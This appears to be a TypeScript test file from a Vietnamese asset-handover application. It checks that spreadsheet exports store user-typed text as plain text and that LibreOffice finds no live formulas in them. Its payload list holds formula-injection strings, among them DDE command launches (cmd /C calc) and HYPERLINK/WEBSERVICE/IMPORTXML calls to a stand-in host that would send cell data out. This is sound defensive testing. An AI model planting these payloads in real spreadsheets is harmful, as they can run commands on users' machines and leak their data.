import { execFile } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { Workbook } from 'exceljs';
import { asked } from '../../scripts/support/talk';
import { readWorkbook } from '../../src/office/excel/read-workbook';
import { writeTable } from '../../src/office/excel/write-workbook';
import { assetList } from '../support/asset-list';
import { planList } from '../support/imports';
import { startProvince } from '../support/province';

const SOFFICE = ['/usr/bin/soffice', '/usr/bin/libreoffice', process.env.SOFFICE ?? ''].find(
  (file) => file && fs.existsSync(file),
);
const withOffice = SOFFICE ? it : it.skip;
const CONVERSION_MS = 150_000;

/** What a spreadsheet might take for a formula, from OWASP's list and from the wild. */
const ATTACKS = [
  '=1+1',
  '=HYPERLINK("http://evil.example?"&A1,"Bấm vào đây")',
  `=cmd|' /C calc'!A0`,
  '=WEBSERVICE("http://evil.example")',
  '=DDE("cmd";"/C calc";"x")',
  '+1+1',
  '-1+1',
  '-2+3+cmd|calc!A0',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '＝1+1',
  "'=1+1",
  '{=1+1}',
  '=IMPORTXML("http://evil.example")',
];

/** What LibreOffice makes of workbooks: flat documents in which each formula stands as an attribute. */
async function opened(folder: string, names: string[]): Promise<string[]> {
  const files = names.map((name) => path.join(folder, `${name}.xlsx`));
  const profile = `-env:UserInstallation=file://${folder}/profile`;
  const args = [profile, '--headless', '--convert-to', 'fods', '--outdir', folder, ...files];
  await promisify(execFile)(SOFFICE!, args, { timeout: CONVERSION_MS });
  return names.map((name) => fs.readFileSync(path.join(folder, `${name}.fods`), 'utf8'));
}
const formulas = (document: string) => document.match(/table:formula=/g)?.length ?? 0;

describe('S7: formulas in what people typed', () => {
  let folder: string;
  beforeAll(() => {
    folder = fs.mkdtempSync(path.join(os.tmpdir(), 'ban-giao-formulas-'));
  });
  afterAll(() => fs.rmSync(folder, { recursive: true, force: true }));
  const file = (name: string) => path.join(folder, `${name}.xlsx`);

  const table = () =>
    writeTable(file('table'), {
      sheets: [
        {
          name: 'Danh sách',
          agency: '=1+1\n+1+1',
          title: ['=1+1'],
          columns: [
            { header: '=1+1', key: 'name', width: 30, kind: 'text' },
            { header: 'Ngày', key: 'day', width: 12, kind: 'day' },
            { header: 'Tiền', key: 'money', width: 12, kind: 'money' },
          ],
          rows: ATTACKS.map((text) => ({ name: text, day: text, money: text as never })),
          notes: ['@SUM(1,1)'],
        },
      ],
    });

  it('S7: are written as text, and read back as the same text', async () => {
    await table();
    const { sheets } = await readWorkbook(file('table'));
    const cells = sheets.flatMap(({ rows }) => rows.flatMap((row) => row.cells));
    expect(cells.filter(({ formula }) => formula)).toEqual([]);
    for (const attack of ATTACKS) {
      expect(cells.map(({ text }) => text.trim())).toContain(attack.trim());
    }
  });

  withOffice(
    SOFFICE
      ? 'S7: LibreOffice finds none in our exports, and finds the one made for it'
      : 'S7: LibreOffice is not installed here (Debian: apt-get install libreoffice-calc)',
    async () => {
      await table();
      const province = await startProvince();
      try {
        const plan = await planList(province.officer, province.roundId, {
          // No quantity: every row is refused, and stands in the workbook of what is wrong.
          bytes: await assetList(ATTACKS.map((name) => ({ name, quantity: name, receiver: name }))),
          name: '=1+1.xlsx',
          listType: 'B3',
          giverOrganisationId: province.oldUnit('06844').organisationId,
        });
        expect(plan.counts.refused).toBeGreaterThan(10);
        const bytes = await asked<Buffer>(
          province.officer,
          'GET',
          `imports/${plan.id}/problems.xlsx`,
        );
        fs.writeFileSync(file('problems'), bytes);
      } finally {
        await province.application.close();
      }
      const control = new Workbook();
      control.addWorksheet('x').getCell('A1').value = { formula: '1+1' };
      await control.xlsx.writeFile(file('control'));
      const [exported, problems, made] = await opened(folder, ['table', 'problems', 'control']);
      expect([formulas(exported!), formulas(problems!), formulas(made!)]).toEqual([0, 0, 1]);
      expect(exported).toContain('HYPERLINK');
      expect(problems).toContain('HYPERLINK');
    },
    CONVERSION_MS + 60_000,
  );
});
